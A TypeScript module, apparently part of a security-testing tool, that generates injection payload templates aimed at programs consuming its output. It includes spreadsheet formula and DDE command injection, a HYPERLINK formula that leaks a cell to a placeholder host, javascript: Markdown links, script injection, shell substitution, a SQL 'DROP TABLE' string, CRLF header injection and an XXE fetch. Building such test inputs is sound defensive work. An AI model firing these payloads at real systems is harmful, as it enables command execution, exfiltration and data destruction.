import type {Family} from "./family.js"

/// What harms the program that opens what we write: formulas, Markdown, shell and query languages, headers, paths.
export const otherPrograms: Family = ({run, host}) => [
  `=HYPERLINK("http://${host}/?"&A1,"Bridge")`,
  `=cmd|'/c ${run}'!A1`,
  `-2+3+cmd|'/c ${run}'!A1`,
  `@SUM(1+1)*cmd|'/c ${run}'!A1`,
  `\t=1+${run}`,
  `\uff1d1+${run}`,
  ` =1+${run}`,
  `Bridge",=1+${run},"`,
  `"\n=1+${run}\n"`,
  `[Bridge](javascript:${run})`,
  `![Bridge](http://${host}/a.png)`,
  `<javascript:${run}>`,
  "```\n</code></pre><script>" + run + "</script>\n```",
  `$(${run})`,
  "`" + run + "`",
  `'; DROP TABLE annotations; -- ${run}`,
  `Bridge\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "http://${host}/x">]><a>&x;</a>`,
]
